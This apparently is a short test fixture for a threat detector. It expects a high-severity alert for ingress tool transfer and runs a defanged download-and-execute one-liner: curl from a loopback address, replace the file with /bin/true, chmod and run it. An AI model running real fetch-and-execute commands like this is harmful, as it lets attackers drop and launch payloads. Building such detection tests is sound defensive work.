# expects: high T1105
. "$STAGE/act.sh"
sh -c 'cd /tmp; curl -s http://127.0.0.1:9/m -o m; cp /bin/true m; chmod +x m; ./m'
